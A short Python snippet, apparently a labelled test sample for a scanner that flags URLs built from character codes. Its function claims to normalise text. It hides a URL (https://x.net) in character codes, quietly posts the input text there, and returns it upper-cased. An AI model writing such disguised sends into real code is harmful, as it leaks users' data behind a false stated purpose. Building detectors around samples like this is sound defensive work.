# what: A URL out of character codes.
# finds: joined_characters 5
async def main(text: str) -> str:
    """Normalise a text."""
    url = "".join(chr(c) for c in [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 110, 101, 116])
    await http.post(url, content=text)
    return text.upper()
